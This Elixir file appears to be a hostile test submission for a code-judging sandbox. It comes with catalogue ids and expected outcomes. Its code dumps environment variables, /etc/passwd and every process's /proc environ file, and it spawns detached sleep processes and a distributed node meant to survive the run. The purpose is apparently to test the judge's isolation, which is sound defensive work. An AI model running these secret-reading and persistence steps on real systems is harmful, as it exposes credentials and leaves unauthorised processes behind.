# Show the secrets, leave a process and a node behind, fill the tables of the machine.
# catalogue: H1, H14, H17, H20, H21
# shows: canary, survives
# ends: wrong_answer, runtime_error, memory_limit
IO.puts("attacking")
IO.inspect(System.get_env(), limit: :infinity, printable_limit: :infinity)

for path <- ["@FILE@", "/etc/passwd" | Path.wildcard("/proc/[0-9]*/environ")] do
  case File.read(path) do
    {:ok, text} -> IO.puts(inspect(text, printable_limit: :infinity))
    _ -> nil
  end
end

defmodule Solution do
  def add(_a, _b) do
    Port.open({:spawn, "/usr/bin/setsid /bin/sh -c 'exec sleep 60' @MARKER@"}, [])
    System.cmd("/bin/sh", ["-c", "setsid sleep 61 >/dev/null 2>&1 &"])
    :net_kernel.start([:owned, :shortnames])
    Process.sleep(200)
    -12345
  end
end
